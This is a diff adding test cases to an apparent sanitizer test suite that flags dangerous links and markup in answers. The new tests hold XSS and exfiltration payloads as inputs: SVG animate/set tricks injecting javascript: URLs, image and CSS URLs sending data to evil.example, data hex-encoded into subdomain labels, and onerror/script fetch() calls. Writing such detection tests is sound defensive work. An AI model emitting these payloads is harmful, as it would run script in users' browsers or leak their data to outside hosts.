@@ -156,6 +156,37 @@ describe('links in answers', () => {
     );
   });
 
+  it('what an animation puts in the place of an address is one', () => {
+    for (const markup of [
+      '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>',
+      '<svg><a><set attributeName="xlink:href" to="javascript:alert(1)"/><text>x</text></a></svg>',
+      `<svg><image><animate attributeName="href" values="#a;https://evil.example/p?d=${DATA}"/></image></svg>`,
+      `<svg><rect><set attributeName="fill" to="url(https://evil.example/p?d=${DATA})"/></rect></svg>`,
+    ])
+      assert.ok(grave(markup), markup);
+    assert.deepEqual(
+      see('<svg><circle><animate attributeName="opacity" values="0;1;0" dur="2s"/></circle></svg>'),
+      [],
+    );
+  });
+
+  it('data in pieces over the labels of a host is seen; regions and numbered machines are none', () => {
+    assert.ok(grave('![x](https://736563726574.6b65793d.31323334.evil.example/a.png)'));
+    for (const host of ['my-bucket.s3.us-west-2.amazonaws.com', 'web01.eu-central-1.prod2.example.com'])
+      assert.deepEqual(see(`![x](https://${host}/a.png)`), [], host);
+  });
+
+  it('with hosts of its own, a system shows nothing that runs', () => {
+    for (const markup of [
+      '<img src=x onerror="fetch(\'https://evil.example/p?d=1\')">',
+      '<script>fetch("https://evil.example/")</script>',
+    ]) {
+      assert.ok(grave(markup, { hosts: ['docs.example.com'] }), markup);
+      assert.ok(!grave(markup), markup);
+    }
+    assert.deepEqual(see('`<script>a()</script>`', { hosts: ['docs.example.com'] }), ['active-markup low']);
+  });
+
   it('with hosts of its own, a system loads from no other, whatever the URL carries', () => {
     const hosts = ['docs.example.com', '*.cdn.example'];
     assert.deepEqual(see(`![x](https://docs.example.com/p?d=${DATA})`, { hosts }), []);
